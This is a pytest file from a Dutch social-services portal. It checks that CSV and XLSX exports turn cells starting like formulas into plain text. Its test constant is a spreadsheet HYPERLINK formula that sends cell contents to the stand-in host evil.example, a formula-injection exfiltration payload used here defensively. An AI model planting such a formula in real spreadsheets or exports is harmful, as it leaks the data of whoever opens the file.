"""Issue 15: a text that starts like a formula (=HYPERLINK(...), +, -, @) is
written as text in every CSV and XLSX the portal makes, never as a formula."""

import csv
import io

import openpyxl
import pytest
from import_export.formats.base_formats import CSV, XLSX

from common.importexport import veilige_cel
from sociale_kaart import services as kaart_services
from sociale_kaart.models import Organisatie, Synoniem
from sociale_kaart.resources import OrganisatieResource
from tests.armoedepact.regie.otp import beheer_tweede_factor  # noqa: F401

FORMULE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("tekst", [FORMULE, "+31 594 000", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_become_text(tekst):
    assert veilige_cel(tekst).startswith("'")


@pytest.mark.parametrize("waarde", ["Voedselbank", "-5", "12,50", 42, None, ""])
def test_ordinary_values_stay_as_they_are(waarde):
    assert veilige_cel(waarde) == waarde


@pytest.mark.usefixtures("beheer_tweede_factor")
def test_bereik_csv_neutralises_a_formula_in_a_search(admin_client, db):
    # Search texts keep only words of the kaart or the lexicon (so no "=" or quotes at all);
    # a theme value is kept as it came in.
    Synoniem.objects.create(woord="hyperlink", zoekt_ook="link")
    for _ in range(6):
        kaart_services.zoekterm_zonder_resultaat_tellen(zoekterm=FORMULE)
        kaart_services.zoekopdracht_tellen(themas=[FORMULE])
    tekst = admin_client.get("/beheer/regie/bereik.csv").content.decode("utf-8-sig")
    cellen = [cel for rij in csv.reader(io.StringIO(tekst), delimiter=";") for cel in rij]
    assert any("hyperlink" in cel.lower() for cel in cellen)
    assert any(cel.startswith("'=HYPERLINK") for cel in cellen)
    assert not any(cel.lstrip().startswith(("=", "+", "@")) for cel in cellen)


def test_the_admin_xlsx_and_csv_export_write_a_formula_as_text(db):
    Organisatie.objects.create(naam=FORMULE, slug="formule", korte_omschrijving="@SUM(1+1)")
    dataset = OrganisatieResource().export()
    werkboek = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(dataset)))
    cellen = [cel for rij in werkboek.active.iter_rows() for cel in rij]
    assert any("HYPERLINK" in str(cel.value) for cel in cellen)
    assert not any(cel.data_type == "f" for cel in cellen)
    tekst = CSV().export_data(OrganisatieResource().export())
    assert ",=HYPERLINK" not in tekst and "'=HYPERLINK" in tekst
